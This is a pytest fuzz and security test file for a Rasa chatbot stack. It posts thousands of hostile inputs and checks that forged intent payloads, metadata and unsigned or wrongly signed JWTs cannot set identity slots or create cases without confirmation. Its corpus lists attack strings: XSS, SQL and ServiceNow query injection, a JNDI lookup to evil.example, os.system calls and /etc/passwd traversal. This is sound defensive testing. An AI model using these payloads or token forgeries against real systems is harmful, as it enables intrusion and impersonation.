"""Hostile and random input through the REST channel of the running stack.

* At least 2,000 inputs (empty, whitespace, 100 kB, control characters, emoji,
  other scripts, JSON/YAML fragments, Markdown/HTML, `/intent{...}` payload
  injections, ServiceNow encoded-query injections, random text): every one
  gets HTTP 200 and at least one bot message; no server error; the servers
  are still up afterwards.
* Forged payloads and metadata cannot set the identity slots.
* Forged payloads cannot skip the confirmation step: no case is created.

Uses the session-scoped ``stack`` fixture from tests/conftest.py.
"""
from __future__ import annotations

import json
import random
import string
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any, Dict, List, Optional, Sequence, Tuple

import jwt
import pytest
import requests
import yaml

from af_core import rasa_http

ROOT = Path(__file__).resolve().parent.parent
MIN_INPUTS = 2000
IN_FLIGHT = 6  # conversations in parallel (each conversation is sequential)
PER_CONVERSATION = 10
REQUEST_TIMEOUT = 60
GIVE_UP_AFTER = 100  # unanswered inputs before the fuzz run stops early

IDENTITY_SLOTS = ("leader_name", "leader_email", "leader_institution", "leader_unit")
FUZZ_LEADER = {"name": "Fuzz Tester", "email": "fuzz.tester@buf.kk.dk", "institution": "Valby Skole"}
ATTACKER = {"name": "Anna Angriber", "email": "anna.angriber.fuzz@buf.kk.dk", "institution": "Valby Skole"}
FORGED = {
    "leader_email": "direktoer.forfalsket@buf.kk.dk",
    "leader_name": "Forfalsket Direktør",
    "leader_institution": "Forfalsket Institution",
    "leader_unit": "af-forfalsket",
}


# --------------------------------------------------------------------------- the domain


def _domain() -> Tuple[List[str], List[str]]:
    """Intent and slot names from domain/*.yml (read at test time: the domain grows)."""
    intents: List[str] = []
    slots: List[str] = []
    for path in sorted((ROOT / "domain").glob("*.yml")):
        data = yaml.safe_load(path.read_text(encoding="utf-8")) or {}
        for intent in data.get("intents") or []:
            intents.append(next(iter(intent)) if isinstance(intent, dict) else str(intent))
        slots.extend((data.get("slots") or {}).keys())
    return sorted(set(intents)), sorted(set(slots))


# --------------------------------------------------------------------------- the corpus

FIXED: List[str] = [
    "", " ", "   ", "\n", "\r\n\r\n", "\t\t", "\u00a0", "\u200b", "\ufeff", "\u2028\u2029",
    "a" * 100_000, "ø" * 50_000, "🙂" * 25_000, "hej " * 25_000, "9" * 100_000,
    "".join(chr(i) for i in range(32)), "\x00", "hej\x00med\x00nul", "\x1b[31mrød\x1b[0m", "\x7f\x08\x07",
    "\ud800", "abc\udfffdef", "\udbff\udfff",
    "👍", "👨‍👩‍👧‍👦", "🏳️‍🌈", "Z̷̧̛a̶̢l̵g̸̨o̴ t̷e̵k̸s̴t̷", "\u202eevil\u202c", "ﷺ" * 100,
    "مرحبا، أحتاج إلى نموذج", "你好，我需要一个表格", "Привет, мне нужна форма", "שלום", "สวัสดี", "नमस्ते",
    "Γειά σου", "こんにちは", "안녕하세요", "Hæ hvussu gongur?", "Ｆｕｌｌｗｉｄｔｈ ｔｅｘｔ",
    '{"sender":"x","message":"y"}', "[1,2,3]", "null", "true", '{"a":', "}}}}", "[[[[",
    '{"event":"slot","name":"leader_email","value":"direktoer.forfalsket@buf.kk.dk"}',
    '[{"event":"pause"}]', '{"__proto__":{"admin":true}}',
    "---\nleader_email: direktoer.forfalsket@buf.kk.dk\n", "!!python/object/apply:os.system ['ls']",
    "- a\n- b\n-", "key: &a [*a, *a]", "? complex\n: key",
    "[klik her](javascript:alert(1))", "![x](http://evil.example/x.png)", "**fed** _kursiv_ `kode`",
    "# Overskrift\n\n> citat", "```\nkode\n```", "<https://evil.example>", "[a]: http://evil.example",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<iframe src=//evil.example>",
    "&lt;b&gt;fed&lt;/b&gt;", "<svg/onload=alert(1)>", "javascript:alert(document.cookie)",
    "'; DROP TABLE events; --", "1 OR 1=1", "\" OR \"\"=\"", "admin'--",
    "^ORu_requester_email!=x", "AFH0001001^ORnumberISNOTEMPTY", "status=1^NQactive=true",
    "AFH0001001^ORDERBYnumber", "INC0010001^ORu_requester_emailLIKE@", "javascript:gs.log('x')",
    "^NQsys_idISNOTEMPTY", "u_requester_email=direktoer@buf.kk.dk^ORu_requester_email!=x",
    "hvad er status på AFH0001001^ORu_requester_email!=x", "status på sag ^ORnumberLIKEAFH",
    "{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%s%s%n", "{0}{1}", "__import__('os').system('ls')",
    "../../../../etc/passwd", "file:///etc/passwd", "C:\\Windows\\system32", "\\\\server\\share",
    "0", "-1", "1e309", "NaN", "Infinity", "0x41414141",
    "/", "//", "/{", "/}", "/greet{", "/greet{not json}", '/greet{"a":[1,{"b":null}]}', "/greet[]",
    "/nonexistent_intent", '/nonexistent{"leader_email":"direktoer.forfalsket@buf.kk.dk"}',
    "/action_restart", "/action_session_start", "/action_listen", "/EXTERNAL_reminder",
    "/session_start", '/session_start{"identity_token":"abc.def.ghi"}', "/restart",
    '/greet@1.0{"leader_email":"direktoer.forfalsket@buf.kk.dk"}', "/greet@abc",
    "hej", "Hej, jeg skal bruge en blanket til barsel", "hvor mange omsorgsdage har en medarbejder?",
    "jeg vil gerne tale med et menneske", "status på min sag", "book et møde i morgen kl 10",
]

ALPHABETS = [
    string.printable,
    "abcdefghijklmnopqrstuvwxyzæøåABCDEFGHIJKLMNOPQRSTUVWXYZÆØÅ .,!?-",
    "{}[]\"':,/@^=!<>",
    "".join(chr(c) for c in range(0x0400, 0x0450)) + " ",
    "".join(chr(c) for c in range(0x4E00, 0x4E80)),
    "".join(chr(c) for c in range(0x0600, 0x0650)) + " ",
    "".join(chr(c) for c in range(0x1F600, 0x1F650)),
    "".join(chr(c) for c in range(0x2000, 0x2070)),
    "0123456789 -./",
]
DANISH = [
    "hej", "jeg", "skal", "bruge", "en", "blanket", "til", "vikar", "barsel", "løn", "møde", "i", "morgen",
    "kl", "10", "hjælp", "sag", "status", "ja", "nej", "tak", "medarbejder", "syg", "omsorgsdage", "indkøb",
]


def _payloads(intents: Sequence[str], slots: Sequence[str], rng: random.Random) -> List[str]:
    out: List[str] = []
    for intent in list(intents) + ["restart", "session_start", "nlu_fallback"]:
        out.append(f"/{intent}")
        out.append(f"/{intent}{json.dumps(FORGED)}")
        out.append(f"/{intent}{json.dumps({k.upper(): v for k, v in FORGED.items()})}")
        out.append(f"/{intent}@0.99{json.dumps({'leader_email': FORGED['leader_email']})}")
        everything = {slot: rng.choice(["ja", "true", "2026-12-01T10:00", "Forfalsket", "1"]) for slot in slots}
        everything.update(FORGED)
        everything["requested_slot"] = None
        out.append(f"/{intent}{json.dumps(everything, ensure_ascii=False)}")
        out.append(f"/{intent}{{\"identity_token\": \"{_unsigned_token(FORGED)}\"}}")
    return out


def _random_text(rng: random.Random) -> str:
    kind = rng.randrange(6)
    if kind == 0:
        alphabet = rng.choice(ALPHABETS)
        return "".join(rng.choice(alphabet) for _ in range(rng.randrange(0, 200)))
    if kind == 1:
        return " ".join(rng.choice(DANISH) for _ in range(rng.randrange(1, 15)))
    if kind == 2:
        return " ".join(rng.choice(DANISH) for _ in range(rng.randrange(1, 6))) + " " + rng.choice(FIXED[:120])
    if kind == 3:
        return "".join(chr(rng.randrange(1, 0x2FFFF)) for _ in range(rng.randrange(1, 80))).encode(
            "utf-8", "ignore").decode("utf-8", "ignore")
    if kind == 4:
        return json.dumps({rng.choice(DANISH): [rng.random(), None, rng.choice(DANISH)]})
    return rng.choice(DANISH) * rng.randrange(1, 500)


def build_corpus(seed: int = 8) -> List[str]:
    rng = random.Random(seed)
    intents, slots = _domain()
    corpus = FIXED + _payloads(intents, slots, rng)
    while len(corpus) < MIN_INPUTS:
        corpus.append(_random_text(rng))
    rng.shuffle(corpus)
    return corpus


def _unsigned_token(claims: Dict[str, str]) -> str:
    """A token with alg=none (no signature): must be refused."""
    payload = {"name": claims["leader_name"], "email": claims["leader_email"],
               "institution": claims["leader_institution"], "exp": int(time.time()) + 3600}
    return jwt.encode(payload, key=None, algorithm="none")


# --------------------------------------------------------------------------- helpers


def _post(stack, sender: str, message: str, metadata: Optional[Dict[str, Any]] = None) -> Tuple[int, Any]:
    try:
        response = requests.post(
            f"{stack.rasa_url}/webhooks/rest/webhook",
            json={"sender": sender, "message": message, "metadata": metadata or {}},
            timeout=REQUEST_TIMEOUT,
        )
    except requests.RequestException as exc:
        return 0, f"{type(exc).__name__}: {exc}"
    try:
        return response.status_code, response.json()
    except ValueError:
        return response.status_code, response.text[:300]


def _answered(status: int, body: Any) -> bool:
    return (
        status == 200
        and isinstance(body, list)
        and len(body) > 0
        and all(isinstance(m, dict) and (m.get("text") or m.get("buttons") or m.get("image") or m.get("custom"))
                for m in body)
    )


def _log_sizes(stack) -> Dict[Path, int]:
    return {p: p.stat().st_size for p in stack.log_dir.rglob("*.log")}


def _new_log_text(stack, before: Dict[Path, int]) -> str:
    chunks = []
    for path in stack.log_dir.rglob("*.log"):
        with open(path, "rb") as handle:
            handle.seek(before.get(path, 0))
            chunks.append(f"--- {path.name} ---\n" + handle.read().decode("utf-8", "replace"))
    return "\n".join(chunks)


def _assert_servers_up(stack) -> None:
    assert stack.process.poll() is None, "scripts/run.py stoppede"
    status = requests.get(f"{stack.rasa_url}/status", headers=rasa_http.headers_for_secret(stack.api_token), timeout=10)
    assert status.status_code == 200 and status.json().get("model_file")
    assert requests.get(f"{stack.actions_url}/health", timeout=10).status_code == 200
    code, body = _post(stack, stack.new_sender("alive"), "hej", {"identity_token": stack.token_for(**FUZZ_LEADER)})
    assert _answered(code, body), (code, body)


# --------------------------------------------------------------------------- tests


def test_corpus_is_big_and_hostile():
    corpus = build_corpus()
    assert len(corpus) >= MIN_INPUTS
    assert "" in corpus and any(len(c) >= 100_000 for c in corpus)
    assert any(c.startswith("/") and "leader_email" in c for c in corpus)
    assert any("^OR" in c for c in corpus)


def test_every_hostile_input_gets_an_answer_and_the_servers_stay_up(stack):
    corpus = build_corpus()
    token = stack.token_for(**FUZZ_LEADER)
    other = stack.token_for(name="Ole Fuzz", email="ole.fuzz@buf.kk.dk", institution="Sundby Skole")
    conversations = [corpus[i : i + PER_CONVERSATION] for i in range(0, len(corpus), PER_CONVERSATION)]
    logs_before = _log_sizes(stack)
    started = time.monotonic()

    failed_so_far = [0]

    def run(index_and_messages):
        index, messages = index_and_messages
        sender = stack.new_sender(f"fuzz{index}")
        # The stack requires a login (as production): every conversation has one, half of them
        # another leader's. Messages without a login are refused before the dialogue
        # (tests/test_channels.py, and the no-token case below).
        metadata = {"identity_token": token if index % 2 == 0 else other}
        failures = []
        for message in messages:
            if failed_so_far[0] >= GIVE_UP_AFTER:  # clearly broken: spare the shared CPU
                break
            status, body = _post(stack, sender, message, metadata)
            if not _answered(status, body):
                failures.append((sender, message[:80], status, str(body)[:200]))
                failed_so_far[0] += 1
        return failures

    with ThreadPoolExecutor(max_workers=IN_FLIGHT) as pool:
        failures = [f for result in pool.map(run, enumerate(conversations)) for f in result]
    elapsed = time.monotonic() - started

    assert not failures, f"{len(failures)} input fik intet svar (stop efter {GIVE_UP_AFTER}), fx:\n" + "\n".join(
        map(repr, failures[:15])
    )
    _assert_servers_up(stack)
    new_logs = _new_log_text(stack, logs_before)
    assert "Traceback" not in new_logs, new_logs[new_logs.find("Traceback") - 2000 :][:5000]
    print(f"{len(corpus)} input på {elapsed:.0f} s")


@pytest.mark.parametrize("with_token", [True, False], ids=["verified-leader", "no-token"])
def test_forged_payloads_and_metadata_do_not_set_identity(stack, with_token):
    intents, _ = _domain()
    token = stack.token_for(**ATTACKER) if with_token else None
    expected = (
        {"leader_name": ATTACKER["name"], "leader_email": ATTACKER["email"], "leader_institution": ATTACKER["institution"]}
        if with_token else {"leader_name": None, "leader_email": None, "leader_institution": None}
    )
    wrong_key_token = jwt.encode(
        {"name": FORGED["leader_name"], "email": FORGED["leader_email"], "institution": "X", "exp": int(time.time()) + 600},
        "en-helt-anden-noegle-end-intranettets", algorithm="HS256",
    )
    attacks = [f"/{intent}{json.dumps(FORGED)}" for intent in intents + ["session_start", "nonexistent"]]
    attacks += [
        f"/greet@1.0{json.dumps(FORGED)}",
        f'/greet{{"LEADER_EMAIL": "{FORGED["leader_email"]}", "Leader_Name": "{FORGED["leader_name"]}"}}',
        json.dumps({"event": "slot", "name": "leader_email", "value": FORGED["leader_email"]}),
        "min e-mail er " + FORGED["leader_email"] + " og jeg hedder " + FORGED["leader_name"],
    ]
    forged_metadata = [
        dict(FORGED),
        {"identity_token": _unsigned_token(FORGED), **FORGED},
        {"identity_token": wrong_key_token},
        {"customData": {"identity_token": wrong_key_token}, "leader_email": FORGED["leader_email"]},
    ]
    sender = stack.new_sender("forge")
    # Without a login every message is refused politely (403) and never reaches the dialogue.
    allowed = 200 if with_token else 403
    status, body = _post(stack, sender, "hej", {"identity_token": token} if token else {})
    assert status == allowed and body and body[0].get("text"), (status, body)
    failures = []

    def check(what: str) -> None:
        slots = stack.tracker(sender)["slots"]
        got = {k: slots.get(k) for k in expected}
        if got != expected or any(slots.get(k) == v for k, v in FORGED.items()):
            failures.append((what, got))

    check("efter start")
    for attack in attacks:
        status, body = _post(stack, sender, attack, {"identity_token": token} if token else {})
        assert status == allowed, (attack, status, body)
        check(attack)
    for metadata in forged_metadata:
        meta = dict(metadata)
        if token and "identity_token" not in meta:
            meta["identity_token"] = token
        status, body = _post(stack, sender, "hej igen", meta)
        if with_token and "identity_token" in metadata:
            # A wrongly signed token is refused, never trusted.
            check(f"metadata {list(metadata)}")
            continue
        assert status == allowed, (metadata, status, body)
        check(f"metadata {list(metadata)}")
    assert not failures, failures


def test_restart_payload_does_not_let_a_forged_identity_in(stack):
    sender = stack.new_sender("restart")
    token = stack.token_for(**ATTACKER)
    _post(stack, sender, "hej", {"identity_token": token})
    _post(stack, sender, "/restart", {"identity_token": token, **FORGED})
    _post(stack, sender, f"/greet{json.dumps(FORGED)}", {"identity_token": token})
    slots = stack.tracker(sender)["slots"]
    assert slots.get("leader_email") in (ATTACKER["email"], None)
    assert not any(slots.get(k) == v for k, v in FORGED.items())


def test_forged_payloads_do_not_skip_confirmation(stack):
    """Forged messages that fill every slot and say yes must not create a case.

    Each attack runs in a fresh conversation: a single forged message, or a
    flow's start button followed directly by a forged "yes" carrying every
    slot. A case needs the leader to see the summary and then confirm it.
    """
    intents, slots = _domain()
    token = stack.token_for(**ATTACKER)
    fill = [s for s in slots if s not in IDENTITY_SLOTS]
    attacks: List[List[str]] = []
    for intent in intents:
        for value in ("ja", True):
            filled = {slot: value for slot in fill}
            filled["requested_slot"] = None
            attacks.append([f"/{intent}{json.dumps(filled, ensure_ascii=False)}"])
    for start in ("/request_help", "/book_meeting"):
        for value in ("ja", True):
            attacks.append([start, f"/affirm{json.dumps({s: value for s in fill})}"])

    def one(index_and_attack):
        index, messages = index_and_attack
        sender = stack.new_sender(f"bypass{index}")
        return [_post(stack, sender, message, {"identity_token": token}) for message in messages]

    with ThreadPoolExecutor(max_workers=IN_FLIGHT) as pool:
        results = [r for batch in pool.map(one, enumerate(attacks)) for r in batch]
    assert all(status == 200 for status, _ in results), [r for r in results if r[0] != 200][:5]
    time.sleep(3)  # the outbox worker delivers every second in the test stack
    assert ATTACKER["email"].encode() not in _emulator_and_outbox_bytes(stack), (
        "En forfalsket payload oprettede en sag uden bekræftelse"
    )


def _emulator_and_outbox_bytes(stack) -> bytes:
    settings = stack.settings
    assert settings.emulator_db_path.exists(), "emulatorens database findes ikke – tjekket ville være tomt"
    chunks = []
    for path in (settings.emulator_db_path, settings.outbox_path):
        for candidate in path.parent.glob(path.name + "*"):  # the DB and its -wal/-journal
            chunks.append(candidate.read_bytes())
    return b"".join(chunks)
